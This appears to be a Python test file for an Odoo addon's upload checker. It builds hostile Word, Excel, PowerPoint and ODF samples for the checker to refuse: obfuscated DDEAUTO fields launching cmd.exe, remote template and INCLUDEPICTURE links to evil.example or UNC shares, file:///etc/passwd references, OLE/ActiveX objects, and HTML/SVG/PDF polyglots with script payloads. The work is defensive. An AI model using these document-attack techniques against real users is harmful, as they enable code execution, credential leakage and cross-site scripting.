"""Office files that do more than being read, and files that are two kinds at once.

What starts a program, is fetched from elsewhere or is put together only when Word opens the file is
refused, as it would not be what was signed. What is kept goes out as the kind it was judged to be,
and no browser makes anything else of it. That nothing of all this comes into what the app writes
itself, is in ``test_hostile_texts``.
"""

import base64
import io
import zipfile

from odoo import http
from odoo.tests import BaseCase, HttpCase

from odoo.addons.lakip_sop.tools.filecheck import FileRefused, Problem, check

from .test_filecheck import (
    MAX_BYTES,
    change_zip,
    make_docx,
    make_image,
    make_odf,
    make_ole,
    make_pdf,
    make_pptx,
    make_xlsx,
    make_zip,
)
from .test_request import RequestCase

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def part_of(content, name):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(name)


def with_markup(markup, content=None):
    """Return a Word file with more markup at the end of its body."""
    content = content or make_docx()
    body = part_of(content, "word/document.xml")
    return change_zip(
        content, parts={"word/document.xml": body.replace(b"<w:sectPr", markup + b"<w:sectPr", 1)}
    )


def with_relation(kind, target, content=None, where="word/_rels/document.xml.rels", **parts):
    """Return a file one of whose parts relates to something, outside it unless it is added."""
    content = content or make_docx()
    mode = "" if parts else ' TargetMode="External"'
    relation = f'<Relationship Id="rId77" Type="{_RELATION}/{kind}" Target="{target}"{mode}/>'
    try:
        rels = part_of(content, where)
    except KeyError:
        rels = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b"</Relationships>"
        )
    rels = rels.replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    return change_zip(content, parts={where: rels, **parts})


def field(*parts):
    """Return a field whose code stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{char.format('begin')}{runs}{char.format('end')}</w:p>".encode()


def simple(code):
    return f'<w:p><w:fldSimple w:instr="{code}"/></w:p>'.encode()


def as_header(markup):
    """Return a Word file with a part of any name that is declared as a header."""
    content = make_docx()
    types = part_of(content, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/media/a.png" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.header+xml"/></Types>',
    )
    header = b'<w:hdr xmlns:w="w">' + markup + b"</w:hdr>"
    return change_zip(content, parts={"[Content_Types].xml": types, "word/media/a.png": header})


def in_utf16(markup):
    content = with_markup(markup)
    text = part_of(content, "word/document.xml").decode()
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", "")
    return change_zip(content, parts={"word/document.xml": text.encode("utf-16")})


def with_link(attribute):
    """Return an .odt that shows something by an address."""
    xml = (
        '<office:document-content xmlns:office="o" xmlns:draw="d" xmlns:text="t" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink">{attribute}</office:document-content>'
    )
    return make_odf("odt", **{"content.xml": xml.encode()})


#: name -> (problem, file, file name)
STARTING = {
    "DDEAUTO": with_markup(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")),
    "DDE in a simple field": with_markup(simple("DDE excel book sheet")),
    "DDE in pieces": with_markup(field(" D", "DE", "AUTO excel x")),
    "DDE in small letters": with_markup(field(" ddeauto excel x")),
    "DDE as entities": with_markup(field("&#68;&#x44;EAUTO excel x")),
    "DDE in CDATA": with_markup(field("<![CDATA[DDEAUTO excel]]>")),
    "DDE in a comment": with_markup(field("DD<!-- -->EAUTO excel")),
    "DDE in another field": with_markup(
        field("IF ").replace(b"</w:p>", b"") + field("DDE a b").removeprefix(b"<w:p>")
    ),
    "DDE without an end": with_markup(field("DDE a b").replace(b'"end"', b'"x"')),
    "DDE by another prefix": with_markup(
        b'<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b'<x:fldSimple x:instr="DDE a b"/></x:p>'
    ),
    "DDE in a header called picture": as_header(simple("DDE a b")),
    "DDE in UTF-16": in_utf16(simple("DDE a b")),
    "package": with_relation(
        "oleObject", "media/image9.png", **{"word/media/image9.png": make_ole("\x01Ole10Native")}
    ),
    "control": with_relation(
        "control", "activeX/activeX1.xml", **{"word/activeX/activeX1.xml": b"<x/>"}
    ),
}  # fmt: skip
STARTING_SHEETS = {
    "DDE": change_zip(
        make_xlsx(),
        parts={
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="x"><ddeLink '
            b'ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        },
    ),
}
LINKED = {
    "INCLUDETEXT": with_markup(field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"')),
    "INCLUDEPICTURE": with_markup(simple("INCLUDEPICTURE &quot;https://evil.example/x&quot;")),
    "LINK": with_markup(field("LINK Excel.Sheet.12 c:\\\\x.xlsx")),
    "DATABASE": with_markup(field("DATABASE \\\\d c:\\\\x.mdb")),
    "picture of the web": with_relation("image", "https://evil.example/x.png"),
    "picture of a drive": with_relation("image", "file:///C:/x.png"),
    "picture in the network": with_relation("image", "\\\\evil\\share\\x.png"),
    "object": with_relation("oleObject", "http://evil.example/x"),
    "frame": with_relation("frame", "http://evil.example/x.htm"),
    "part of a master document": with_relation("subDocument", "file:///C:/x.docx"),
    "mail merge": with_relation("mailMergeSource", "file:///C:/x.mdb",
                                where="word/_rels/settings.xml.rels"),
}  # fmt: skip
TEMPLATES = {
    "template of the web": with_relation("attachedTemplate", "https://evil.example/x.dotm",
                                         where="word/_rels/settings.xml.rels"),
    "template in the network": with_relation("attachedTemplate", "file:////evil/share/x.dotm",
                                             where="word/_rels/settings.xml.rels"),
    "template in the network, as Windows": with_relation(
        "attachedTemplate", "\\\\evil\\share\\x.dotm", where="word/_rels/settings.xml.rels"),
}  # fmt: skip
CHUNKS = {
    "altChunk": with_markup(b'<w:altChunk r:id="rId77" xmlns:r="r"/>'),
    "a part for it": with_relation(
        "aFChunk", "afchunk.htm", **{"word/afchunk.htm": b"<html><script>1</script></html>"}
    ),
}
REASONS = "starts a program|not in it but fetched|another document|template that Word would fetch"
#: Fields and links that honest files have.
HONEST = {
    "contents": with_markup(simple("TOC \\o &quot;1-3&quot; \\h") + field(" PAGE ")),
    "text that reads like a field": with_markup(
        b"<w:p><w:r><w:t>{ DDEAUTO cmd } { INCLUDETEXT x }</w:t></w:r></w:p>"
    ),
    "a reference called so": with_markup(field("REF DDE_1 \\h") + field('HYPERLINK "LINK"')),
    "links to click": with_relation(
        "hyperlink", "file://server/x", with_relation("hyperlink", "https://example.com")
    ),
    "the template it was made from": with_relation(
        "attachedTemplate",
        "file:///C:\\Users\\staf\\Templates\\Laporan.dotx",
        where="word/_rels/settings.xml.rels",
    ),
    "an embedded sheet": with_relation(
        "package", "embeddings/a.xlsx", **{"word/embeddings/a.xlsx": make_xlsx()}
    ),
    "an equation": with_relation(
        "oleObject", "embeddings/a.bin", **{"word/embeddings/a.bin": make_ole("Equation Native")}
    ),
}


class TestActiveFiles(BaseCase):
    def assertRefused(self, problem, name, content):
        with self.assertRaises(FileRefused) as caught:
            check(name, content, max_bytes=MAX_BYTES)
        self.assertEqual(caught.exception.problem, problem, str(caught.exception))

    def test_what_starts_programs(self):
        for name, content in STARTING.items():
            with self.subTest(name):
                self.assertRefused(Problem.ACTIVE, "a.docx", content)
        for name, content in STARTING_SHEETS.items():
            with self.subTest(name):
                self.assertRefused(Problem.ACTIVE, "a.xlsx", content)
        slide = with_relation(
            "slide", "slides/slide1.xml", make_pptx(), "ppt/_rels/presentation.xml.rels",
            **{"ppt/slides/slide1.xml": b'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick '
                                        b'action="ppaction://Program"/></p:sld>'},
        )  # fmt: skip
        self.assertRefused(Problem.ACTIVE, "a.pptx", slide)
        self.assertRefused(
            Problem.ACTIVE, "a.odt", with_link('<text:dde-connection-decl office:name="x"/>')
        )
        self.assertRefused(Problem.ACTIVE, "a.zip", make_zip({"isi/a.docx": STARTING["DDEAUTO"]}))

    def test_what_is_fetched(self):
        for name, content in LINKED.items():
            with self.subTest(name):
                self.assertRefused(Problem.LINKED, "a.docx", content)
        self.assertRefused(
            Problem.LINKED,
            "a.pptx",
            with_relation("image", "http://evil.example/x.png", make_pptx(),
                          "ppt/_rels/presentation.xml.rels"),
        )  # fmt: skip
        for target in (
            "http://evil.example/x.png",
            "file:///etc/passwd",
            "/etc/passwd",
            "../x.odt",
        ):
            for element in ("draw:image", "draw:object", "text:section-source"):
                with self.subTest(element=element, target=target):
                    content = with_link(f'<{element} xlink:href="{target}"/>')
                    self.assertRefused(Problem.LINKED, "a.odt", content)

    def test_templates_in_the_network(self):
        for name, content in TEMPLATES.items():
            with self.subTest(name):
                self.assertRefused(Problem.TEMPLATE, "a.docx", content)
        settings = "word/_rels/settings.xml.rels"
        beside = with_relation("mailMergeSource", "file:///C:/x.mdb", content, settings)
        self.assertRefused(Problem.LINKED, "a.docx", beside)
        # Told last, as it is forgiven a base file
        rels = part_of(content, settings)
        both = change_zip(STARTING["DDEAUTO"], parts={settings: rels})
        self.assertRefused(Problem.ACTIVE, "a.docx", both)

    def test_documents_in_documents(self):
        for name, content in CHUNKS.items():
            with self.subTest(name):
                self.assertRefused(Problem.CHUNK, "a.docx", content)

    def test_honest_files(self):
        for name, content in HONEST.items():
            with self.subTest(name):
                self.assertEqual(check("a.docx", content, max_bytes=MAX_BYTES).kind, "docx")
        # Excel asks before it follows these.
        book = with_relation("externalLinkPath", "file:///C:/x.xlsx", make_xlsx(),
                             "xl/externalLinks/_rels/externalLink1.xml.rels")  # fmt: skip
        self.assertEqual(check("a.xlsx", book, max_bytes=MAX_BYTES).kind, "xlsx")
        text = with_link('<text:a xlink:href="https://example.com"/>'
                         '<draw:image xlink:href="Pictures/1.png"/>')  # fmt: skip
        self.assertEqual(check("a.odt", text, max_bytes=MAX_BYTES).kind, "odt")

    def test_definitions_beside_a_field(self):
        laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "DDE">]>'
        body = part_of(with_markup(simple("&a; x")), "word/document.xml")
        body = laughs + body.partition(b"?>")[2]
        self.assertRefused(
            Problem.DAMAGED, "a.docx", change_zip(make_docx(), parts={"word/document.xml": body})
        )


class TestDoors(RequestCase, HttpCase):
    """Each way in asks, and each way out tells the browser what it gets."""

    def _send(self, request, name, content):
        return self.url_open(
            f"/lakip/request/{request.id}/file",
            data={
                "item_id": request.item_ids[0].id,
                "csrf_token": http.Request.csrf_token(self),
            },
            files={"ufile": (name, content)},
        ).json()

    def _open_request(self):
        step = self._start_collection()
        request = self._get_request(self._send_all(step), self.division_a)
        self.authenticate(self.staff_a.login, self.staff_a.login)
        return request

    def _send_all(self, step):
        step.request_ids.with_user(self.team_member).action_send()
        return step

    def test_refused_with_a_sentence(self):
        request = self._open_request()
        # In the language of the database, as the browser asks for none
        for content, sentence in (
            (STARTING["DDEAUTO"], r"a.docx.*\(DDEAUTO\)"),
            (LINKED["picture of the web"], "a.docx.*https://evil.example/x.png"),
            (CHUNKS["altChunk"], "a.docx.*Word"),
        ):
            answer = self._send(request, "a.docx", content)
            self.assertRegex(answer.get("refusal", ""), sentence)
            with self.assertRefused(REASONS):
                self._attach(request.item_ids[0], self.staff_a, "a.docx", content)
            with self.assertRefused(REASONS):
                self.company.lakip_base_docx = base64.b64encode(content)
        self.assertFalse(request.item_ids.attachment_ids)

    def test_report_to_be_signed(self):
        cycle = self._create_cycle(sop_id=self._create_short_sop().id)
        self._start(cycle)
        step = self._complete(cycle).with_user(self.team_member)
        for content in (
            *LINKED.values(),
            *CHUNKS.values(),
            *STARTING.values(),
            *TEMPLATES.values(),
        ):
            with self.assertRefused(REASONS):
                step._upload_document("report", content, "LAKIP.docx")
        self.assertFalse(cycle.document_ids)

    def test_two_kinds_at_once(self):
        """Kept as what it was judged to be, or refused; never shown as a page or a program."""
        page = b"<html><script>alert(1)</script></html>"
        script = b"<script>alert(1)</script>"
        svg = b"<!-- x --><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
        pdf = make_pdf()
        zipped = make_zip({"a.csv": b"a;b\n"})
        request = self._open_request()
        for name, content, kind in (
            ("html.pdf", b"%PDF-1.7\n" + page + pdf[8:], "application/pdf"),
            ("page first.pdf", page + b"\n" + pdf, "application/pdf"),
            ("zip.pdf", pdf + zipped + b"\n%%EOF", "application/pdf"),
            ("zip.png", make_image("PNG") + zipped, "image/png"),
            ("html.jpg", make_image("JPEG") + page, "image/jpeg"),
            ("pdf.zip", zipped + pdf, "application/zip"),
            ("table.csv", b"a;b\n" + script, "text/csv"),
            ("comment.csv", b"<!-- x -->" + script, None),
            ("svg.csv", svg, None),
            ("svg.png", svg, None),
            ("page.csv", page, None),
            ("page.docx", page, None),
            ("word.pdf", make_docx(), None),
            ("a.svg", svg, None),
            ("a.html", page, None),
        ):
            with self.subTest(name):
                answer = self._send(request, name, content)
                if kind is None:
                    self.assertIn(name, answer.get("refusal", ""), answer)
                    continue
                self._check_sent(self.env["ir.attachment"].browse(answer["file"]), kind)

    def _check_sent(self, file, kind):
        self.assertEqual(file.mimetype, kind)
        for path in ("/web/content/{}", "/web/content/{}?download=true", "/web/image/{}"):
            answer = self.url_open(path.format(file.id))
            self.assertEqual(answer.status_code, 200)
            sent = answer.headers["Content-Type"].partition(";")[0]
            if path.startswith("/web/content"):
                self.assertEqual(sent, kind)
            self.assertNotIn(sent, ("text/html", "image/svg+xml", "application/xhtml+xml"))
            self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")
            if "download" in path:
                self.assertIn("attachment", answer.headers["Content-Disposition"])
